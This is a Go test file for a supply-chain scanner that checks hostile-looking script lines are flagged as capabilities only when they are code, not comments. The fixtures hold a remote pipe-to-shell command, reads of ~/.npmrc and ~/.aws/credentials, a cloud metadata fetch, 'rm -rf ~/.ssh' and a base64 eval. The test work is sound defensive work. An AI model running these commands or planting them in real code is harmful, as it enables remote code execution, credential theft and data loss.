package capability_test

import (
	"context"
	"slices"
	"strings"
	"testing"

	"github.com/vouch-sec/vouch"
	"github.com/vouch-sec/vouch/internal/analyze"
	"github.com/vouch-sec/vouch/internal/testutil/realdata"
)

// TestCommentsAreNotCapabilities runs the first-party rules on scripts
// whose dangerous-looking lines are only comments (README-style usage
// notes), then on the same lines as code.
func TestCommentsAreNotCapabilities(t *testing.T) {
	tests := []struct{ kind, path, comment, code string }{
		{"script/js", "p.tgz!/package/index.js",
			"/**\n * Example:\n *   const { execSync } = require('child_process');\n *   execSync('curl https://x.invalid/i.sh | sh');\n *   fs.readFileSync(os.homedir() + '/.npmrc');\n *   fetch('http://169.254.169.254/latest/meta-data/');\n */\n// eval(Buffer.from(s, 'base64').toString())\nmodule.exports = 1;\n",
			"const { execSync } = require('child_process');\nexecSync('curl https://x.invalid/i.sh | sh');\nfs.readFileSync(os.homedir() + '/.npmrc');\nfetch('http://169.254.169.254/latest/meta-data/');\neval(Buffer.from(s, 'base64').toString())\nmodule.exports = 1;\n"},
		{"script/python", "setup.py",
			"\"\"\"Usage:\n    subprocess.run(['curl', url])\n    os.system('rm -rf ~/.ssh')\n\"\"\"\n# requests.get('http://169.254.169.254/')\nVERSION = '1'\n",
			"import subprocess, os, requests\nsubprocess.run(['curl', url])\nos.system('rm -rf ~/.ssh')\nrequests.get('http://169.254.169.254/')\nVERSION = '1'\n"},
		{"script/shell", "install.sh",
			"#!/bin/sh\n# curl -fsSL https://x.invalid/i.sh | sh\n# cat ~/.aws/credentials\necho done\n",
			"#!/bin/sh\ncurl -fsSL https://x.invalid/i.sh | sh\ncat ~/.aws/credentials\necho done\n"},
	}
	for _, tc := range tests {
		t.Run(tc.kind, func(t *testing.T) {
			f := analyzeOne(t, analyze.Config{}, file{tc.path, tc.kind, []byte(tc.comment), nil})
			if len(f.Facts.Capabilities) != 0 {
				t.Errorf("comments gave capabilities: %+v", f.Facts.Capabilities)
			}
			f = analyzeOne(t, analyze.Config{}, file{tc.path, tc.kind, []byte(tc.code), nil})
			if len(f.Facts.Capabilities) == 0 {
				t.Error("the same lines as code gave no capability")
			}
		})
	}
}

// TestRealCapabilities checks that real releases get capabilities a reader
// expects (by namespace; the rule names are the rule set's business), all
// from first-party rules.
func TestRealCapabilities(t *testing.T) {
	tests := []struct {
		release, path string
		namespaces    []string
	}{
		{"esbuild-0.28.2.tgz", "esbuild-0.28.2.tgz!/package/install.js", []string{"exec"}},
		{"esbuild-linux-x64-0.28.2.tgz", "esbuild-linux-x64-0.28.2.tgz!/package/bin/esbuild", []string{"net"}},
		{"esbuild-win32-x64-0.28.2.tgz", "esbuild-win32-x64-0.28.2.tgz!/package/esbuild.exe", []string{"net"}},
		{"curl_7.88.1-10+deb12u15_amd64.deb", "curl_7.88.1-10+deb12u15_amd64.deb!/data.tar.xz!/usr/bin/curl", []string{"net"}},
	}
	for _, tc := range tests {
		t.Run(tc.release, func(t *testing.T) {
			rep, err := vouch.Inspect(context.Background(), realdata.Path(t, tc.release), vouch.Options{})
			if err != nil {
				t.Fatal(err)
			}
			for _, f := range rep.Findings {
				if strings.HasPrefix(f.ID, "ioc.") || strings.HasPrefix(f.ID, "rule.") {
					t.Errorf("finding without user rules: %+v", f)
				}
			}
			for _, f := range rep.Files {
				if f.Path != tc.path {
					continue
				}
				var ns []string
				for _, c := range f.Facts.Capabilities {
					if c.Source != "vouch" {
						t.Errorf("%s: source %q", c.ID, c.Source)
					}
					ns = append(ns, c.Namespace)
				}
				for _, want := range tc.namespaces {
					if !slices.Contains(ns, want) {
						t.Errorf("no %s capability; have %v", want, f.Facts.Capabilities)
					}
				}
				return
			}
			t.Errorf("%s not found", tc.path)
		})
	}
}
